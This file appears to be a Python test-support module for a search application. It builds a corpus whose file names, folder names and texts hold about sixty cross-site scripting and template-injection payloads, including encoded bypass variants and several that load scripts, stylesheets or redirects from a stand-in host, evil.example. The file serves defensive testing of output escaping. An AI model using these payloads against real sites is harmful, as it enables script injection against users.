"""Script payloads, and a corpus that has them in its texts, titles, file names and folders."""

from collections.abc import Iterator
from pathlib import Path

from search.config import SKIPPABLE_STEPS
from tests.support.files import write_files

WITHOUT_EXTRACTION = {"SEEDSEARCH_SKIP_STEPS": ",".join(SKIPPABLE_STEPS)}
"""Environment variables of a server without extraction, so that a payload stays a title."""
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<script\x0calert(1)</script\x0c>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>ferry</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>ferry</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>ferry</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>ferry</marquee>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</mark></a><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "`onload=alert(1)`<b>ferry</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}}{% raw %}<script>alert(1)</script>",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "<script>document.title='owned'</script>",
    "<b id=hit-1>ferry</b><p class=steps>",
)


def file_name(payload: str) -> str:
    """A payload as a name of a file or folder."""
    return payload.replace("/", "∕")


def hostile_files(together: int = 1) -> Iterator[tuple[str, str]]:
    """Paths and texts with `together` payloads in each. Every text has the word ferry and a unique word."""
    for number in range(0, len(PAYLOADS), together):
        payload = " ".join(PAYLOADS[number : number + together])
        folder = f"{number}{file_name(payload)}/" if number % 3 == 0 else ""
        text = f"{payload}\n\nThe ferry {payload} word{number}.\n\n{payload}\n"
        yield f"{folder}{number}{file_name(payload)}.txt", text


def write_hostile(folder: Path, together: int = 1) -> Path:
    """The hostile corpus in a folder."""
    return write_files(folder, dict(hostile_files(together)))
